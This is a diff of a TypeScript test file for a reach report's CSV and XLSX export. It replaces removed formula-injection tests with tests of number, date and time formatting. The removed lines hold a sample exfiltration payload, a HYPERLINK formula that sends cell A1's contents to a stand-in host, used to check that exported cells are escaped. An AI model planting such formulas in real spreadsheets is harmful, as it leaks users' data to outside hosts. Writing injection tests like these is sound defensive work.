@@ -1,48 +1,61 @@
-import { describe, expect, it } from "vitest";
+import { expect, it } from "vitest";
 import ExcelJS from "exceljs";
-import { eq } from "drizzle-orm";
-import { places, visits } from "@/db/schema";
+import { TZDate } from "@date-fns/tz";
+import { feedbackResponses } from "@/db/schema";
+import { recordWalkIn } from "@/lib/attendance/writes";
 import { addPlace, addSession, addStaff, testDb } from "@/lib/test/db";
 import { reachReport } from "./access";
 import { reachCsv, reachXlsx } from "./export";
-import { spreadsheetText } from "./spreadsheet-text";
 
-describe("spreadsheetText", () => {
-  it.each(["=1+1", "+358 40 123", "-2", "@SUM(A1)", "\t=1", "\r=1"])("marks %j as text", (value) => {
-    expect(spreadsheetText(value)).toBe(`'${value}`);
-  });
-
-  it("leaves other text alone", () => {
-    expect(spreadsheetText("Kohtaamo Tikkurila")).toBe("Kohtaamo Tikkurila");
-    expect(spreadsheetText("a=b")).toBe("a=b");
-  });
-});
-
-describe("the funder's files never carry a planner's text as a formula", () => {
+it("writes the workbook with numbers as numbers, rates with a format, days as dates, and each session's time and title", async () => {
   const db = testDb();
-  const place = addPlace(db);
-  const evil = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
-  db.update(places).set({ name: evil, county: "@county" }).where(eq(places.id, place.id)).run();
-  const session = addSession(db, { placeId: place.id, kind: "drop_in", capacity: null, startsAt: new Date(Date.now() - 3 * 86_400_000) });
-  db.insert(visits).values({ sessionId: session.id, kind: "parent", source: "walk_in", firstTime: true, clientKey: "export-test-1" }).run();
   const planner = addStaff(db, "planner");
-  const result = reachReport(db, planner, { period: "all", place: String(place.id) }, { withSessions: true });
-  if (!result.ok) throw new Error("planner refused");
+  const placeId = addPlace(db).id;
+  // 17:30 in Helsinki on Tuesday 10 November 2026; the figures are read on the 23rd.
+  const startsAt = new Date(new TZDate(2026, 10, 10, 17, 30, 0, "Europe/Helsinki").getTime());
+  const sessionId = addSession(db, { placeId, capacity: 10, startsAt }).id;
+  for (let i = 0; i < 3; i++) expect(recordWalkIn(db, planner, { sessionId, clientKey: `k${i}`, kind: "parent", firstTime: true }, startsAt).ok).toBe(true);
+  db.insert(feedbackResponses).values({ sessionId, rating: 4, locale: "en", deviceHash: "d1" }).run();
 
-  it("CSV: the place's name starts with an apostrophe in every cell it fills", () => {
-    const csv = reachCsv(result.report, "en");
-    expect(csv).toContain(`'=HYPERLINK`);
-    expect(csv).not.toMatch(/(^|[,\n])"?=HYPERLINK/m);
-  });
+  const now = new Date(new TZDate(2026, 10, 23, 12, 0, 0, "Europe/Helsinki").getTime());
+  const r = reachReport(db, planner, { period: "this_year" }, { now, withSessions: true });
+  if (!r.ok) throw new Error(r.error);
+  const workbook = new ExcelJS.Workbook();
+  await workbook.xlsx.load((await reachXlsx(r.report, "en")) as unknown as ArrayBuffer);
+  const [summary, sessions] = workbook.worksheets as [ExcelJS.Worksheet, ExcelJS.Worksheet];
 
-  it("XLSX: no cell is a formula, and the name is text marked as text", async () => {
-    const workbook = new ExcelJS.Workbook();
-    await workbook.xlsx.load((await reachXlsx(result.report, "en")) as unknown as ArrayBuffer);
-    const cells: ExcelJS.Cell[] = [];
-    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => void cells.push(cell))));
-    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
-    const texts = cells.map((c) => c.value).filter((v): v is string => typeof v === "string");
-    expect(texts.filter((v) => /^[=+\-@\t\r]/.test(v))).toEqual([]);
-    expect(texts).toContain(`'${evil}`);
-  });
+  const rowOf = (ws: ExcelJS.Worksheet, label: string) => {
+    let found: ExcelJS.Row | undefined;
+    ws.eachRow((row) => {
+      if (row.getCell(1).value === label) found ??= row;
+    });
+    if (!found) throw new Error(`no row ${label}`);
+    return found;
+  };
+  const parents = rowOf(summary, "Parents reached").getCell(2);
+  expect(parents.type).toBe(ExcelJS.ValueType.Number);
+  expect(parents.value).toBe(3);
+  const fill = rowOf(summary, "Fill rate").getCell(2);
+  expect(fill.value).toBeCloseTo(0.3);
+  expect(fill.numFmt).toBe("0.0%");
+  // The ratings read as the form asked them, and the month still under way says so.
+  expect(rowOf(summary, "Good").getCell(2).value).toBe(1);
+  expect(rowOf(summary, "November 2026 (so far)").getCell(2).value).toBe(3);
+
+  expect(sessions.getRow(1).values).toEqual(expect.arrayContaining(["Date", "Time", "Session", "Meeting place"]));
+  const line = sessions.getRow(2);
+  expect(line.getCell(1).type).toBe(ExcelJS.ValueType.Date);
+  expect((line.getCell(1).value as Date).toISOString()).toBe("2026-11-10T00:00:00.000Z");
+  expect(line.getCell(2).type).toBe(ExcelJS.ValueType.Date);
+  expect((line.getCell(2).value as Date).toISOString().slice(11, 16)).toBe("17:30"); // Helsinki's wall clock
+  expect(line.getCell(2).numFmt).toBe("hh:mm");
+  expect(line.getCell(3).value).toBe("Info evening");
+  expect(line.getCell(6).type).toBe(ExcelJS.ValueType.Number); // capacity
+  expect(sessions.getColumn(3).width).toBeGreaterThanOrEqual("Info evening".length);
+
+  // The CSV reads as the dashboard does.
+  const csv = reachCsv(r.report, "en");
+  expect(csv).toContain("Fill rate,30%");
+  expect(csv).toMatch(/11\/10\/2026,5:30\sPM,Info evening,/);
+  expect(csv).toContain("Good,1");
 });
